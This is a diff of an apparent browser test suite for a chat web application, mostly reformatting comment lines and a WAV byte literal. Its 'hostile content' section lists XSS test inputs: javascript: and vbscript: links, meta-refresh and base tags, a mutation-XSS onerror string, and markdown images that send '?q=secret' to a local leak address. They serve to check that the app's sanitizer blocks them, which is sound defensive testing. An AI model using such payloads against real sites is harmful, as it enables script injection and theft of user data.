@@ -33,7 +33,10 @@ FORM = [
     {"number": {"variable": "age", "label": "Age", "required": False}},
 ]
 LONG = "Please explain to me in detail what the travel rules say about hotels, flights and receipts"
-SILENCE = b"RIFF$\x00\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00@\x1f\x00\x00\x80>\x00\x00\x02\x00\x10\x00data\x00\x00\x00\x00"
+SILENCE = (  # a WAV file
+    b"RIFF$\x00\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00@\x1f\x00\x00\x80>\x00\x00"
+    b"\x02\x00\x10\x00data\x00\x00\x00\x00"
+)
 
 
 def chat_app(config: dict[str, Any] | None = None, **site: Any) -> App:
@@ -92,7 +95,7 @@ def rows(model: Any, **filters: Any) -> list[Any]:
     return aside(lambda: list(model.objects.filter(**filters)))
 
 
-# --- a stranger's first visit ------------------------------------------------------------------------------------
+# --- a stranger's first visit -------------------------------------------------------------------------------
 
 
 def test_web_01_09_13_a_stranger_fills_in_the_form_chats_and_is_asked_on(chromium: Chromium):
@@ -234,7 +237,7 @@ def test_web_02_on_a_phone_the_conversations_slide_in(chromium: Chromium):
         expect(answer(page)).to_have_count(0)
 
 
-# --- conversations -------------------------------------------------------------------------------------------------
+# --- conversations ------------------------------------------------------------------------------------------
 
 
 def test_web_10_conversations_are_renamed_pinned_and_deleted(chromium: Chromium):
@@ -334,7 +337,7 @@ def test_more_conversations_and_earlier_messages_are_loaded_when_asked_for(chrom
         expect(page.locator(".msg.user").last).to_have_text("Question 44")
 
 
-# --- answers -------------------------------------------------------------------------------------------------------
+# --- answers ------------------------------------------------------------------------------------------------
 
 
 def test_web_12_an_answer_is_copied_and_rated(chromium: Chromium):
@@ -393,7 +396,7 @@ def test_a_failure_is_told_and_can_be_tried_again(chromium: Chromium, upstream):
         expect(answer(page, 1).locator(".notice.bad")).to_be_visible()
 
 
-# --- speech and pictures ------------------------------------------------------------------------------------------------
+# --- speech and pictures ------------------------------------------------------------------------------------
 
 SPEECH = {"whisper-1": "speech2text", "tts-1": "tts"}
 
@@ -501,7 +504,7 @@ def test_web_14_a_picture_the_server_refuses_says_why(chromium: Chromium):
         chromium.complaints.clear()  # the browser itself reports the 413
 
 
-# --- the connection --------------------------------------------------------------------------------------------------
+# --- the connection -----------------------------------------------------------------------------------------
 
 
 def words_of(page: Page, number: int = 0) -> list[str]:
@@ -632,7 +635,7 @@ def test_web_04_a_page_that_moves_while_it_is_open_says_so(chromium: Chromium):
         chromium.complaints.clear()  # the browser itself reports the 404
 
 
-# --- what the address says ------------------------------------------------------------------------------------------------
+# --- what the address says ----------------------------------------------------------------------------------
 
 
 def packed(text: str) -> str:
@@ -686,12 +689,13 @@ def test_an_address_may_name_the_conversation_of_its_user(chromium: Chromium):
         chromium.complaints.clear()  # the browser itself reports the 404
 
 
-# --- hostile content -----------------------------------------------------------------------------------------------------
+# --- hostile content ----------------------------------------------------------------------------------------
 
 SPLIT = [
     PAYLOAD,
     "[x](javascript:alert(1)) [y](vbscript:alert(1)) [z](JaVaScRiPt&colon;alert(1))",
-    "<a href='javascript:alert(1)'>a</a><base href=//127.0.0.1:9/><meta http-equiv=refresh content='0;url=//127.0.0.1:9'>",
+    "<a href='javascript:alert(1)'>a</a><base href=//127.0.0.1:9/>"
+    "<meta http-equiv=refresh content='0;url=//127.0.0.1:9'>",
     "<form action=//127.0.0.1:9><button>b</button></form><object data=//127.0.0.1:9></object><embed src=//127.0.0.1:9>",
     "![a](http://127.0.0.1:9/leak?q=secret) ![b][ref]\n\n[ref]: //127.0.0.1:9/leak2.png",
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
@@ -767,7 +771,7 @@ def test_h_07_names_from_strangers_are_text(chromium: Chromium):
         expect(page).to_have_title(evil)
 
 
-# --- keyboard ---------------------------------------------------------------------------------------------------------------
+# --- keyboard -----------------------------------------------------------------------------------------------
 
 
 def test_the_keyboard_reaches_everything(chromium: Chromium):
@@ -800,7 +804,7 @@ def test_the_keyboard_reaches_everything(chromium: Chromium):
         expect(talks(page)).to_have_count(1)
 
 
-# --- the embed view ------------------------------------------------------------------------------------------------------------
+# --- the embed view -----------------------------------------------------------------------------------------
 
 
 def test_the_embed_view_is_the_same_chat_in_little_room(chromium: Chromium):
